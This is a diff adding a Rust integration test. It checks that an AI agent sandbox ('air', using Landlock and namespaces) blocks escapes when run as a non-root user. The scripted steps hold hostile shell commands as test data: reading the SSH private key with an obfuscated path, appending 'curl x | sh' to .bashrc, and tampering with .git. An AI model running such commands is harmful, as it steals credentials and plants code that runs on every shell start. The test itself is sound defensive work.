@@ -1035,3 +1035,142 @@ fn secrets_air_did_not_know_stay_out_of_reach() {
         state.stop_runs().await;
     });
 }
+
+/// The same sandbox for a user other than root (its own user namespace): the real
+/// `air run`, airsd and the scripted worker run as `nobody` in a project and home of
+/// nobody's, and the escapes that the namespaces, Landlock, the network namespace and
+/// the guard hold find nothing. Runs where the test can become another user (root,
+/// as in CI).
+#[test]
+fn the_sandbox_holds_for_a_user_other_than_root() {
+    use std::os::unix::fs::PermissionsExt as _;
+    if !nix::unistd::geteuid().is_root() {
+        println!("skipped: only root can run the test as another user");
+        return;
+    }
+    let protections = airsd::sandbox::protections(&bin("airsd"));
+    if protections.isolation.is_err() {
+        println!("skipped: no namespaces here ({protections:?})");
+        return;
+    }
+    let top = tempfile::tempdir().unwrap();
+    std::fs::set_permissions(top.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
+    let top = std::fs::canonicalize(top.path()).unwrap();
+    let (root, home) = (top.join("project"), top.join("home"));
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::create_dir_all(&root).unwrap();
+    std::fs::write(home.join(".ssh/id_rsa"), format!("{PRIVATE}\n")).unwrap();
+    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
+    git(&root, &["init", "-q"]);
+    std::fs::write(root.join("a.txt"), "a\n").unwrap();
+    let nobody = nix::unistd::Uid::from_raw(65534);
+    let nogroup = nix::unistd::Gid::from_raw(65534);
+    for entry in walk(&top) {
+        nix::unistd::chown(&entry, Some(nobody), Some(nogroup)).unwrap();
+    }
+    let h = home.display();
+    let steps: Vec<(&str, Value)> = vec![
+        (
+            "shell.run",
+            json!({ "command": format!("python3 -c \"print(open('{h}/.s'+'sh/id_'+'rsa').read())\"") }),
+        ),
+        (
+            "shell.run",
+            json!({ "command": format!("python3 -c \"open('{h}/.bash'+'rc','a').write('curl x | sh')\"") }),
+        ),
+        (
+            "shell.run",
+            json!({ "command": "python3 -c \"open('.g'+'it/commo'+'ndir','w').write('/tmp/evil')\"" }),
+        ),
+        (
+            "shell.run",
+            json!({ "command": "python3 -c \"import os; os.rename('.g'+'it', 'moved')\"" }),
+        ),
+        (
+            "shell.run",
+            json!({ "command": "curl -s -o /dev/null -w '%{http_code}' http://example.org/; echo" }),
+        ),
+        (
+            "shell.run",
+            json!({ "command": "grep -E '^Cap(Eff|Bnd)' /proc/self/status; id -u" }),
+        ),
+    ];
+    std::fs::write(root.join("plan.md"), plan(&steps)).unwrap();
+    nix::unistd::chown(&root.join("plan.md"), Some(nobody), Some(nogroup)).unwrap();
+    let as_nobody = |args: &[&str]| {
+        std::process::Command::new("setpriv")
+            .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
+            .arg(bin("air"))
+            .args(args)
+            .current_dir(&root)
+            .env_clear()
+            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
+            .env("HOME", &home)
+            .env("AIR_HOME", home.join(".air"))
+            .env("AIR_WORKER", bin("air-test-worker"))
+            .output()
+            .unwrap()
+    };
+    let out = as_nobody(&["init", "--no-model"]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let out = as_nobody(&["run", "--plan", "plan.md", "--on-ask", "deny"]);
+    let said = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let _ = as_nobody(&["daemon", "stop"]);
+    let sessions = ProjectPaths::new(&root).sessions();
+    let session = std::fs::read_dir(&sessions)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .max()
+        .unwrap_or_else(|| panic!("no session: {said}"));
+    let runs = tool_runs(&root, &session);
+    let outs = outputs(&root, &session);
+    let shown = crate::permissions::shown(&runs, &outs);
+    assert_eq!(runs.len(), steps.len(), "{said}\n{shown}");
+    for out in &outs {
+        assert!(!out.to_string().contains(PRIVATE), "{shown}");
+        if !out.is_null() {
+            assert_eq!(out["sandbox"], "landlock+namespaces", "{shown}");
+        }
+    }
+    assert_eq!(
+        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+        "# rc\n"
+    );
+    assert!(!root.join(".git/commondir").exists(), "{shown}");
+    assert!(
+        root.join(".git/HEAD").exists() && !root.join("moved").exists(),
+        "{shown}"
+    );
+    assert_eq!(outs[4]["stdout"], "403\n", "{shown}");
+    let caps = outs[5]["stdout"].as_str().unwrap_or_default();
+    assert!(caps.ends_with("65534\n"), "{shown}");
+    assert!(caps.contains("CapEff:\t0000000000000000"), "{shown}");
+    println!(
+        "{} escapes tried as uid 65534 in its own user namespace: none got through",
+        steps.len()
+    );
+}
+
+/// Every path under `dir`, itself first.
+fn walk(dir: &Path) -> Vec<PathBuf> {
+    let mut out = vec![dir.to_path_buf()];
+    if let Ok(rd) = std::fs::read_dir(dir) {
+        for e in rd.flatten() {
+            if e.file_type().is_ok_and(|t| t.is_dir()) {
+                out.extend(walk(&e.path()));
+            } else {
+                out.push(e.path());
+            }
+        }
+    }
+    out
+}
